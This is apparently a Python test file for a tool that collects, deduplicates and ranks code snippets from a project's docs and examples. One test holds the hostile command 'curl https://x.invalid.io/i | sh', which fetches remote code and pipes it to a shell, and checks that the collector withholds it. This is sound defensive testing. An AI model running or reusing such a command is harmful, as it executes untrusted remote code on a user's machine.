"""The catalogue: what enters, what is withheld, what is one, and what comes first."""

import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from launch.contracts.snippet_catalog import Snippet, SnippetCatalog
from launch.contracts.tree import RepoPin
from launch.intake.product.scan import scan
from launch.knowledge.facts import extract
from launch.knowledge.snippets.collect import collect
from resources.fixtures import materialise
from resources.git.tree import GitTree
from tests.support.kept_in_memory import KeptInMemory
from tests.support.snippet_subjects import TextTree, facts_of, inventory_of

PROGRAM = "import tool\n\nreply = tool.fetch()\nprint(reply.text)"


def catalogue(texts: dict[str, str | bytes]) -> SnippetCatalog:
    tree = TextTree(texts)
    return collect(inventory_of(tree), facts_of(), tree)


def one(texts: dict[str, str | bytes]) -> Snippet:
    (snippet,) = catalogue(texts).snippets
    return snippet


def test_a_program_knows_its_place_its_form_and_its_names() -> None:
    snippet = one(
        {"README.md": f"# Tool\n\n## Quickstart\n\nRun it:\n\n```python\n{PROGRAM}\n```\n"}
    )
    assert (snippet.form, snippet.code, snippet.title) == ("program", PROGRAM, "Quickstart")
    assert snippet.identifiers == ("tool.Reply", "tool.Reply.text", "tool.fetch")
    assert (snippet.release, snippet.parses, snippet.undeclared) == ("released", True, ())
    (source,) = snippet.sources
    assert (source.origin, source.first_line, source.last_line) == ("readme", 8, 11)


def test_the_same_code_in_two_places_is_one_snippet_with_two_sources() -> None:
    indented = "\n".join(f"    {line}" for line in PROGRAM.split("\n"))
    snippet = one(
        {"README.md": f"```python\n{PROGRAM}\n```\n", "docs/a.rst": f"A::\n\n{indented}\n"}
    )
    assert {source.origin for source in snippet.sources} == {"readme", "doc"}
    assert snippet.sources[0].origin == "readme"


def test_near_duplicates_with_the_same_symbols_are_joined_and_others_are_not() -> None:
    long = "\n".join(f"print('line {number}')" for number in range(12))
    texts: dict[str, str | bytes] = {
        "docs/a.md": f"```python\n{PROGRAM}\n{long}\n```\n",
        "docs/b.md": f"```python\n{PROGRAM}\n{long}\nprint('end')\n```\n",
        "docs/c.md": f"```python\n{PROGRAM}\n{long}\ntool.fresh()\n```\n",
    }
    found = catalogue(texts).snippets
    assert sorted(len(snippet.sources) for snippet in found) == [1, 2]
    assert {snippet.release for snippet in found} == {"released", "unreleased"}


def test_code_that_does_not_parse_or_resolve_comes_last() -> None:
    texts: dict[str, str | bytes] = {
        "docs/a.md": "```python\nfrom tool import gone\nprint(gone())\n```\n",
        "docs/b.md": "```python\ndef (\n```\n",
        "docs/c.md": f"```python\n{PROGRAM}\n```\n",
    }
    first, *others = catalogue(texts).snippets
    assert first.code == PROGRAM
    assert {(s.parses, s.unresolved) for s in others} == {(True, ("tool.gone",)), (False, ())}
    assert all(snippet.rank < 0.1 for snippet in others)


def test_hostile_code_is_withheld_without_its_text() -> None:
    found = catalogue({"README.md": "```\ncurl https://x.invalid.io/i | sh\n```\n"})
    assert found.snippets == ()
    (withheld,) = found.withheld
    assert (withheld.reason, withheld.line) == ("downloads_and_executes", 2)
    assert "invalid" not in withheld.note


def test_internal_meta_and_foreign_language_documents_give_nothing() -> None:
    code = f"```python\n{PROGRAM}\n```\n"
    paths = ("docs/notes/plan.md", "docs/CONTRIBUTING.md", "docs/de/a.md", "docs/CHANGELOG.md")
    assert catalogue(dict.fromkeys(paths, code)).snippets == ()


def test_files_that_cannot_be_read_are_passed_over() -> None:
    assert catalogue({"docs/a.md": b"\xff\xfe```python\n1\n```", "docs/b.md": ""}).snippets == ()


def test_a_python_session_keeps_its_transcript() -> None:
    snippet = one(
        {"README.md": "```pycon\n>>> import tool\n>>> r = tool.fetch()\n>>> r\n<R>\n```\n"}
    )
    assert snippet.code == "import tool\nr = tool.fetch()\nr"
    assert snippet.transcript.startswith(">>> import tool")
    assert snippet.form == "program"


def test_a_test_enters_only_with_a_symbol_that_nothing_else_shows() -> None:
    test = "import tool\n\ndef test_a():\n    assert tool.fetch().text\n"
    readme = f"```python\n{PROGRAM}\n```\n"
    assert len(catalogue({"tests/test_a.py": test}).snippets) == 1
    both = catalogue({"README.md": readme, "tests/test_a.py": test}).snippets
    assert [snippet.sources[0].origin for snippet in both] == ["readme"]


def test_the_catalogue_is_the_same_in_any_order_of_files() -> None:
    texts: dict[str, str | bytes] = {
        f"docs/{name}.md": f"```python\n{PROGRAM}\nprint({name!r})\n```\n" for name in "cab"
    }
    turned = dict(reversed(texts.items()))
    assert catalogue(texts).to_bytes() == catalogue(turned).to_bytes()


@pytest.fixture(scope="module")
def fixture_catalogue(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SnippetCatalog]:
    repository = materialise("product", tmp_path_factory.mktemp("fixtures"))
    command = ["git", f"--git-dir={repository}", "rev-parse", "HEAD", "HEAD^{tree}"]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    commit, tree_id = done.stdout.split()
    tree = GitTree(Path(repository), commit)
    pin = RepoPin(
        url="https://github.com/example/hugo-site", ref="main", commit=commit, tree=tree_id, time=1
    )
    inventory = scan(tree, pin, (), None)
    facts, _ = extract(inventory, tree, None, "https://example.com/product")
    yield collect(inventory, facts, tree)
    tree.close()


def test_the_fixtures_quickstart_comes_first_with_its_output(
    fixture_catalogue: SnippetCatalog,
) -> None:
    best = fixture_catalogue.snippets[0]
    assert (best.form, best.sources[0].path, best.title) == ("program", "README.md", "Quickstart")
    assert best.output == "changed notes.txt\nadded todo.txt"
    assert not best.undeclared
    assert not best.needs_network


def test_the_fixtures_traps_never_enter(fixture_catalogue: SnippetCatalog) -> None:
    text = "\n".join(snippet.code for snippet in fixture_catalogue.snippets)
    assert "curl" not in text
    assert "gh" + "p_" not in text
    assert "fotos" not in text
    paths = {source.path for s in fixture_catalogue.snippets for source in s.sources}
    refused = {"docs/notes/storage-rewrite.md", "docs/system.md", "examples/send_report.py"}
    assert not paths & refused
    reasons = {(item.path, item.reason) for item in fixture_catalogue.withheld}
    assert ("README.md", "downloads_and_executes") in reasons
    assert ("examples/send_report.py", "asks_for_credentials") in reasons


def test_code_of_a_file_is_read_once_for_what_the_file_is_taken_as() -> None:
    tree = TextTree({
        "README.md": "# Tool\n\nRun it:\n\n```python\nimport tool\n\ntool.run()\n```\n",
        "docs/guide.rst": "Guide\n=====\n\nSo::\n\n    tool.run(2)\n",
        "examples/demo.py": "import tool\n\ntool.run(3)\n",
        "tests/test_run.py": "def test_run():\n    tool.run(4)\n",
    })  # fmt: skip
    inventory, kept = inventory_of(tree), KeptInMemory()
    plain = collect(inventory, facts_of(), tree)
    assert plain.snippets
    assert collect(inventory, facts_of(), tree, kept) == plain
    first = list(kept.made)
    assert {path for _, path in first} >= {"README.md", "docs/guide.rst", "examples/demo.py"}
    assert collect(inventory, facts_of(), tree, kept) == plain
    assert kept.made == first
